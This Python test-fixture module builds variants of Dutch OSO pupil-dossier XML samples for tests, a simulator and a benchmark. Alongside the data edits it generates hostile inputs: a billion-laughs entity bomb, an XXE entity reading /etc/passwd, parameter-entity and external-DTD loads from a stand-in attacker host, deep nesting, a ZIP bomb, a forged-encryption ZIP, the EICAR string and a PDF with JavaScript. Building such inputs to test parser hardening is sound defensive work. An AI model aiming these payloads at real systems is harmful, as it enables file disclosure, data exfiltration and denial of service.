"""The four official OSO sample dossiers (Edustandaard, release 2019.1, PaO profiles) and
variants built from them: another pupil, a forbidden block present, a BSN added, hostile XML,
attachments that are ZIP bombs or carry a virus test file or a PDF with JavaScript.

For the tests, the simulator (`manage.py lvs_simulator parnassys`) and the benchmark. Every
helper takes and returns the document as bytes.
"""

from __future__ import annotations

import base64
import io
import zipfile
from datetime import date
from pathlib import Path

from lxml import etree

MAP = Path(__file__).resolve().parent / "voorbeelddossiers"
VOORBEELDEN = {
    "po_full": "Voorbeelddossier_PaO_POSWV_full.xml",
    "po_opt_out": "Voorbeelddossier_PaO_POSWV_opt_out.xml",
    "vo_full": "Voorbeelddossier_PaO_VOSWV_full.xml",
    "vo_opt_out": "Voorbeelddossier_PaO_VOSWV_opt_out.xml",
}
NS_2019 = "http://www.edustandaard.nl/oso_gegevensset/2019/dossier"

# The order of <leerling>'s children in the 2019.1 schema (xs:sequence), to insert elements.
LEERLING_VOLGORDE = [
    "voornaam",
    "voorletters-1",
    "voorvoegsel",
    "achternaam",
    "roepnaam",
    "geboortedatum",
    "geboortemaand",
    "geslacht",
    "adresgeheim",
    "adreslijst",
    "postcode4adres",
    "communicatielijst",
    "gba",
    "adresbuitenland",
    "geboorteplaats",
    "nationaliteit",
    "onderwijsnummer",
    "bsn",
    "leerlingid",
    "onderwijssinds",
    "startdatumhuidigonderwijs",
    "datuminschrijving",
    "datumuitschrijving",
    "teruggeplaatstnaarbrin",
    "leerlinggewicht",
    "nnca",
    "tehuis",
    "huisarts",
    "verzorgersaansprakelijk",
    "aansprakelijkeinstelling",
    "overstapadvies",
    "vanpeuterspeelzaal",
    "naampeuterspeelzaal",
    "voorschools",
    "vroegschools",
    "schoolloopbaanlijst",
    "onderwijsondersteuning",
    "verzuim",
    "eindtoets_basisonderwijs",
    "toetslijst",
    "cijferlijstlijst",
    "overigdocumentlijst",
    "verzorger",
    "bevorderd",
    "examenresultaat",
    "resultaatvakkenvo",
    "certificaat",
    "competenties",
    "stage",
    "overigvombo",
]

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _nodig(voorwaarde: object, wat: str) -> None:
    if not voorwaarde:
        raise ValueError(f"voorbeeld kan niet worden aangepast: {wat!r} niet gevonden")


def voorbeeld(naam: str) -> bytes:
    """One of the official samples: "po_full", "po_opt_out", "vo_full", "vo_opt_out"."""
    return (MAP / VOORBEELDEN[naam]).read_bytes()


def _boom(xml: bytes) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    return etree.fromstring(xml, parser)


def _bytes(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _ns(root: etree._Element) -> str:
    return etree.QName(root).namespace or NS_2019


def _leerling(root: etree._Element) -> etree._Element:
    ns = _ns(root)
    leerling = root.find(f"{{{ns}}}huidigeschool/{{{ns}}}leerling")
    _nodig(leerling is not None, "")
    return leerling


def _invoegen(leerling: etree._Element, nieuw: etree._Element) -> None:
    """Insert a child of <leerling> at its place in the schema's sequence."""
    plaats = LEERLING_VOLGORDE.index(etree.QName(nieuw).localname)
    voor = set(LEERLING_VOLGORDE[: plaats + 1])
    index = 0
    for i, kind in enumerate(leerling):
        if isinstance(kind.tag, str) and etree.QName(kind).localname in voor:
            index = i + 1
    leerling.insert(index, nieuw)


def andere_leerling(
    xml: bytes,
    *,
    roepnaam: str,
    achternaam: str,
    geboortedatum: date,
    tussenvoegsel: str | None = None,
    geslacht: int | None = None,
) -> bytes:
    """The same dossier for another pupil: name parts and birth date replaced in <leerling>
    and its <gba> block (the verzorgers keep theirs)."""
    root = _boom(xml)
    ns = _ns(root)
    leerling = _leerling(root)

    def zetten(pad: str, waarde: str) -> None:
        for element in leerling.findall("/".join(f"{{{ns}}}{d}" for d in pad.split("/"))):
            element.text = waarde

    voornamen = leerling.findall(f"{{{ns}}}voornaam")
    for i, element in enumerate(voornamen):
        element.text = roepnaam if i == 0 else f"{roepnaam}{i}"
    zetten("roepnaam", roepnaam)
    zetten("voorletters-1", f"{roepnaam[0]}.")
    zetten("achternaam", achternaam)
    zetten("geboortedatum", geboortedatum.isoformat())
    zetten("gba/gbaachternaam", achternaam)
    zetten("gba/gbageboortedatum", geboortedatum.strftime("%d-%m-%Y"))
    for i, element in enumerate(leerling.findall(f"{{{ns}}}gba/{{{ns}}}gbavoornaam")):
        element.text = roepnaam if i == 0 else f"{roepnaam}{i}"
    if tussenvoegsel is not None:
        zetten("voorvoegsel", tussenvoegsel)
        zetten("gba/gbavoorvoegsel", tussenvoegsel)
    if geslacht is not None:
        zetten("geslacht", str(geslacht))
    return _bytes(root)


def categorie_zetten(xml: bytes, blok: str, waarde: str) -> bytes:
    """Mark a block in categorie_uitlevering (e.g. "verzuim", "OPT-UIT"), content unchanged."""
    root = _boom(xml)
    ns = _ns(root)
    cat = root.find(f"{{{ns}}}metadata/{{{ns}}}categorie_uitlevering/{{{ns}}}cat_{blok}")
    _nodig(cat is not None, blok)
    cat.text = waarde
    return _bytes(root)


def blok_overnemen(naar: bytes, van: bytes, element: str) -> bytes:
    """Copy one child element of <leerling> (e.g. "verzuim") from one dossier into another,
    at its schema place: e.g. the full sample's verzuim into the opt-out sample, where the
    parents opted out of it."""
    doel = _boom(naar)
    bron = _leerling(_boom(van))
    ns = _ns(doel)
    gevonden = bron.findall(f"{{{ns}}}{element}")
    _nodig(gevonden, element)
    for kopie in gevonden:
        _invoegen(_leerling(doel), kopie)
    return _bytes(doel)


def zonder(xml: bytes, *namen: str) -> bytes:
    """Every element with one of these local names removed (e.g. "opp")."""
    root = _boom(xml)
    for element in list(root.iter()):
        if isinstance(element.tag, str) and etree.QName(element).localname in namen:
            ouder = element.getparent()
            if ouder is not None:
                ouder.remove(element)
    return _bytes(root)


def tekst_vervangen(xml: bytes, pad: str, waarde: str, *, index: int = 0) -> bytes:
    """The text of the index-th element at `pad` (local names under <dossier>, "/"-separated,
    e.g. "huidigeschool/leerling/geslacht") set to `waarde`."""
    root = _boom(xml)
    ns = _ns(root)
    gevonden = root.findall("/".join(f"{{{ns}}}{deel}" for deel in pad.split("/")))
    _nodig(len(gevonden) > index, pad)
    gevonden[index].text = waarde
    return _bytes(root)


def met_element(xml: bytes, naam: str, waarde: str) -> bytes:
    """A simple child element added to <leerling> (e.g. "bsn", "onderwijsnummer")."""
    root = _boom(xml)
    ns = _ns(root)
    nieuw = etree.Element(f"{{{ns}}}{naam}")
    nieuw.text = waarde
    _invoegen(_leerling(root), nieuw)
    return _bytes(root)


def met_bsn(xml: bytes, bsn: str = "123456782") -> bytes:
    return met_element(xml, "bsn", bsn)


def namespace_vervangen(xml: bytes, namespace: str) -> bytes:
    return xml.replace(NS_2019.encode(), namespace.encode())


def kapot(xml: bytes) -> bytes:
    """Malformed: cut off halfway."""
    return xml[: len(xml) // 2]


# --- hostile XML ----------------------------------------------------------------------------


def billion_laughs(niveaus: int = 10) -> bytes:
    entiteiten = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, niveaus)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE dossier [\n'
        + "\n".join(entiteiten)
        + f'\n]>\n<dossier xmlns="{NS_2019}">&lol{niveaus - 1};</dossier>'
    ).encode()


def externe_entiteit(url: str = "file:///etc/passwd") -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE dossier [<!ENTITY xxe SYSTEM "{url}">]>\n'
        f'<dossier xmlns="{NS_2019}">&xxe;</dossier>'
    ).encode()


def parameter_entiteit(url: str = "http://aanvaller.invalid/evil.dtd") -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE dossier [<!ENTITY % dtd SYSTEM "{url}"> %dtd;]>\n'
        f'<dossier xmlns="{NS_2019}"/>'
    ).encode()


def externe_dtd(url: str = "http://aanvaller.invalid/oso.dtd") -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE dossier SYSTEM "{url}">\n<dossier xmlns="{NS_2019}"/>'
    ).encode()


def diep_genest(diepte: int = 100_000) -> bytes:
    return (
        f'<?xml version="1.0"?><dossier xmlns="{NS_2019}">'.encode()
        + b"<a>" * diepte
        + b"</a>" * diepte
        + b"</dossier>"
    )


# --- attachments ----------------------------------------------------------------------------


def zip_van(bestanden: dict[str, bytes], *, compressie: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compressie) as archief:
        for naam, inhoud in bestanden.items():
            archief.writestr(naam, inhoud)
    return buffer.getvalue()


def zip_bom(megabytes: int = 100) -> bytes:
    """One member of `megabytes` zeros: a few hundred kB packed, written in blocks."""
    buffer = io.BytesIO()
    blok = b"\0" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archief,
        archief.open("leeg.txt", "w", force_zip64=True) as lid,
    ):
        for _ in range(megabytes):
            lid.write(blok)
    return buffer.getvalue()


def zip_versleuteld(inhoud: bytes = b"geheim") -> bytes:
    """A ZIP whose member claims to be encrypted (flag bit 0), as a hostile sender may send."""
    buffer = bytearray(zip_van({"geheim.txt": inhoud}, compressie=zipfile.ZIP_STORED))
    # general purpose flag: local header at offset 6, central directory entry at +8
    buffer[6] |= 0x1
    centraal = buffer.find(b"PK\x01\x02")
    buffer[centraal + 8] |= 0x1
    return bytes(buffer)


def pdf_met_javascript() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('oso')"))
    )
    uit = io.BytesIO()
    pdf.save(uit)
    return uit.getvalue()


def pdf_schoon(tekst: str = "Toelichting onderwijsbehoeften") -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Title"] = tekst
    uit = io.BytesIO()
    pdf.save(uit)
    return uit.getvalue()


def bijlage_vervangen(xml: bytes, bestandsnaam: str, zip_inhoud: bytes) -> bytes:
    """Every <document> named `bestandsnaam` gets `zip_inhoud` (base64) as its content."""
    root = _boom(xml)
    ns = _ns(root)
    gevonden = 0
    for document in root.iter(f"{{{ns}}}document"):
        if (document.findtext(f"{{{ns}}}bestandsnaam") or "") == bestandsnaam:
            inhoud = document.find(f"{{{ns}}}bestandsinhoud")
            _nodig(inhoud is not None, "")
            inhoud.text = base64.b64encode(zip_inhoud).decode("ascii")
            gevonden += 1
    _nodig(gevonden, bestandsnaam)
    return _bytes(root)


def met_toelichting(xml: bytes, pdf: bytes | None = None) -> bytes:
    """The Toelichting onderwijsbehoeften as a readable ZIP with a PDF (the official samples
    carry a truncated ZIP there)."""
    return bijlage_vervangen(
        xml, "Toelichting.pdf", zip_van({"Toelichting.pdf": pdf or pdf_schoon()})
    )
